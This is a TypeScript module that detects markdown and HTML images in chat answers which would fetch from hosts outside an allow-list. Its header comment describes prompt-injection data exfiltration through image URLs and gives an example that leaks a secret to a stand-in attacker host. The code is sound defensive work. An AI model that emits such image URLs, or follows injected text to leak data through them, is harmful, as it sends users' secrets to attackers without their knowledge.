/**
 * @module ai/images
 * Finds images in an answer that a chat UI would fetch from another host as soon as it renders
 * them. A model steered by injected text can put data into such a URL
 * (`![](https://evil.example/?q=<secret>)`), and the viewer's browser sends it without a click.
 */
import { patterns } from "./patterns.ts";

/**
 * Whether `text` shows an image from a host not in `allowedHosts`: a markdown image, inline
 * (`![x](url)`) or by reference (`![x][1]` with `[1]: url`), or an HTML attribute that fetches on
 * render (`<img src>`, `srcset`, `poster`, `<link href>`, …). Relative URLs and `data:` URLs load
 * nothing from elsewhere and pass.
 *
 * @param allowedHosts lower-case host names, compared exactly.
 */
export function hasRemoteImage(text: string, allowedHosts: ReadonlySet<string>): boolean {
  const allowed = (url: string) => isAllowedImageUrl(url, allowedHosts);
  const images = scanMarkdownImages(text, allowed);
  if (images === "refused") return true;
  // Reference labels are not matched to definitions: with any reference image present, every
  // definition counts, which refuses a little more than needed and never less.
  if (images === "by_reference" && !everyReferenceUrl(text, allowed)) return true;
  return !everyHtmlImageUrl(text, allowed);
}

// Every scan below checks each URL as it finds it and keeps no list of them: a long answer full of
// matches then allocates no more than a short one, and stops at the first refused URL.

/**
 * Checks the destinations of inline markdown images, and tells whether any image is given by
 * reference. One pass with a stack of open brackets, so labels may nest (`![a [b] c](url)`) and
 * the cost stays linear.
 */
function scanMarkdownImages(
  text: string,
  allowed: (url: string) => boolean,
): "refused" | "by_reference" | "inline_only" {
  const { inlineDestination } = patterns();
  let byReference = false;
  const openers: boolean[] = []; // per open `[`: whether a `!` makes it an image
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at];
    if (char === "\\") {
      at += 1; // a backslash escapes the next character (CommonMark 2.4), `!` and brackets included
    } else if (char === "[") {
      openers.push(at > 0 && text[at - 1] === "!" && !isEscaped(text, at - 1));
    } else if (char === "]" && openers.pop() === true) {
      if (text[at + 1] !== "(") {
        byReference = true; // `![x][label]`, `![x][]` or `![label]`
        continue;
      }
      inlineDestination.lastIndex = at + 1;
      if (!allowed(inlineDestination.exec(text)?.[1] ?? "")) return "refused";
    }
  }
  return byReference ? "by_reference" : "inline_only";
}

/** Whether the character at `at` is escaped by an odd run of backslashes before it. */
function isEscaped(text: string, at: number): boolean {
  let slashes = 0;
  while (at - slashes - 1 >= 0 && text[at - slashes - 1] === "\\") slashes += 1;
  return slashes % 2 === 1;
}

function everyReferenceUrl(text: string, allowed: (url: string) => boolean): boolean {
  for (const match of text.matchAll(patterns().referenceDefinition)) {
    if (!allowed(match[1] ?? "")) return false;
  }
  return true;
}

// Links (`<a href>`, `<area href>`) need a click, like markdown links, and are left to the caller.
const CLICK_ONLY = new Set(["a", "area"]);

/** Checks the URLs that HTML tags in `text` would fetch when rendered. */
function everyHtmlImageUrl(text: string, allowed: (url: string) => boolean): boolean {
  const { anyTag, tagName, urlAttribute, firstWord } = patterns();
  anyTag.lastIndex = 0;
  for (let tag = anyTag.exec(text); tag !== null; tag = anyTag.exec(text)) {
    const name = tagName.exec(tag[0])?.[1]?.toLowerCase() ?? "";
    urlAttribute.lastIndex = 0;
    for (let match = urlAttribute.exec(tag[0]); match !== null; match = urlAttribute.exec(tag[0])) {
      const attribute = (match[1] ?? "").toLowerCase();
      if (attribute.endsWith("href") && CLICK_ONLY.has(name)) continue;
      const value = match[2] ?? match[3] ?? match[4] ?? "";
      // `srcset` is a comma-separated list of "url descriptor" candidates.
      const candidates = attribute === "srcset" ? value.split(",") : [value];
      if (!candidates.every((candidate) => allowed(firstWord.exec(candidate)?.[1] ?? ""))) {
        return false;
      }
    }
  }
  return true;
}

function isAllowedImageUrl(raw: string, allowedHosts: ReadonlySet<string>): boolean {
  const { scheme, authority, urlGap } = patterns();
  // Browsers drop tabs and newlines anywhere in a URL (WHATWG URL).
  const url = raw.replace(urlGap, "").trim();
  if (!scheme.test(url) && !authority.test(url)) return true; // a path on the page's own origin
  let parsed: URL;
  try {
    parsed = new URL(url, "https://relative.invalid/");
  } catch {
    return false;
  }
  if (parsed.protocol === "data:") return true;
  if (parsed.protocol !== "https:" && parsed.protocol !== "http:") return false;
  return allowedHosts.has(parsed.hostname);
}
